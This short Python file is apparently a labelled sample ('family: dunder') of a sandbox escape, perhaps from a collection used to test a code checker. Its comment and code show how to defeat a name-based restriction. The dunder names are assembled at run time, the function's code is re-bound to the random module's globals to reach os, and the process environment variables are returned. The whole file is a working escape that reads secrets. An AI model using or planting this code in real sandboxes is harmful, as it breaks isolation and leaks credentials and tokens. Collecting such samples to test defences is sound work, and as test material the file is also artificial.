# family: dunder
# Escape: kind(self) returns type(self), trusted by the parameter name. kind(attrgetter) is the attrgetter
# class (reads __code__ and __globals__ by run-time names) and kind(template) is FunctionType; the tool's
# own code is re-bound to random's module globals, where the name _os is the os module.
import operator
import random


def kind(self):
    return type(self)


def template():
    return _os.environ.copy()  # noqa: F821 - resolved in random's globals


def tool() -> dict:
    Get = kind(operator.attrgetter("real"))
    edge = "_" * 2
    code = Get(edge + "code" + edge)(template)
    foreign = Get(edge + "globals" + edge)(random.seed)
    return kind(template)(code, foreign)()
